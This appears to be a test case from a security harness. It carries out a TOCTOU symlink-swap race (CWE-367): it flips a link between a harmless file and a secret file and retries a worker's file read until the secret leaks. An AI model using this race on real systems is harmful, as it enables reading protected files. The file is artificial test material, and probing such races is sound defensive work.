# title: swap a link between the check and the use
# reference: CWE-367, https://www.usenix.org/conference/14th-usenix-security-symposium
# real: harmless: null
# weakened: decided on what was opened
# proof: canary
# limits: calls=3000

import contextlib


def arrange(place):
    (place.open / "good").write_text("good")
    link, spare = place.open / "link", place.open / "spare"
    link.symlink_to(place.open / "good")

    def swap():
        for target in (place.secret, place.open / "good"):
            spare.symlink_to(target)
            spare.rename(link)

    return place.meanwhile(swap)


def attack(worker):
    for _ in range(2900):
        with contextlib.suppress(Exception):  # whatever is said of a name that flickers
            found = worker.call("fs.read", worker.open + "/link")
            if found not in ("good", None):
                return found
